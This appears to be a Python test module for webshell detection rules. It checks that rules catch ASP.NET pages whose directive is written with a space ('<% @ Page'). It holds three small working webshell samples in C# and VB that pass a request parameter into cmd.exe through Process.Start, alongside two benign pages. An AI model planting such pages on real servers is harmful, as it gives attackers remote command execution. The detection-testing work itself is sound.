"""Rules from the forty-second unseen collection: pages embedded in 2025-2026 attack tools (issue 14, helper X42).

On first sight (BENCHMARKS.md, "Unseen shells, forty-second collection") the own rules found every page, and the
YARA rules every page but one of the second part: ShellForge, a 2025 shell generator, writes its ASPX page as
``<% @ Page Language="C#" %>`` - white space between ``<%`` and ``@``, which ASP.NET's directive parser allows
(``<%\\s*@``). ``EXT_WEBSHELL_Process_Exec`` knew a server page by ``<%@`` (or ``runat=server``), so only the
behaviour analysis named it. Every ``<%@`` page marker of the shipped rules now takes the space (17 markers in
ten files), and the four rules that told a code block by ``"<% "`` no longer take such a directive for code (a help
page writing its directive ``<% @ Page`` would otherwise have counted as server code).

The pages below are harmless files in that shape, written here (nothing is run by the tests, none is a copy of the
collected page). Every rule table of ``tests/webfiles`` is held to the same spelling by the table-wide tests of
``test_unseen43_page_grammar.py`` (its ``spaced-directive`` spelling), beside the other spellings ASP.NET accepts.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_PROCESS = "EXT_WEBSHELL_Process_Exec"

SPACED_DIRECTIVE_SHELLS: list[Page] = [
    (
        "cs-spaced-page-directive-inline-block",
        ".aspx",
        '<% @ Page Language="C#" %><% var q = Request.Form["q"]; if (q != null) '
        'System.Diagnostics.Process.Start("cmd.exe", "/c echo " + q); %>',
    ),
    (
        "vb-tab-spaced-page-directive",
        ".aspx",
        '<%\t@ Page Language="VB" %>\n<%\n'
        'Dim i As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & Request.QueryString("q"))\n'
        "i.UseShellExecute = False\nSystem.Diagnostics.Process.Start(i)\n%>\n",
    ),
    (
        "cs-spaced-handler-directive",
        ".ashx",
        '<%  @ WebHandler Language="C#" Class="Probe" %>\n'
        "using System.Web;\npublic class Probe : IHttpHandler {\n"
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c.Request["q"]);\n'
        "    System.Diagnostics.Process.Start(p);\n  }\n}\n",
    ),
]

SPACED_DIRECTIVE_ORDINARY: list[Page] = [
    (
        "cs-spaced-directive-echo-page",
        ".aspx",
        '<% @ Page Language="C#" %><% var q = Request.Form["q"]; %>\n'
        "<html><body><p>You searched for <%: q %></p></body></html>\n",
    ),
    (
        "cs-spaced-directive-fixed-report-tool",
        ".aspx",
        '<% @ Page Language="C#" %>\n<% int page = int.Parse(Request.QueryString["page"] ?? "1");\n'
        'var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(@"C:\\Tools\\report.exe")'
        " { RedirectStandardOutput = true, UseShellExecute = false });\n"
        'Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + " (page " + page + ")"); %>\n',
    ),
]

CASES: list[RuleCase] = [(_PROCESS, SPACED_DIRECTIVE_SHELLS, SPACED_DIRECTIVE_ORDINARY)]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)

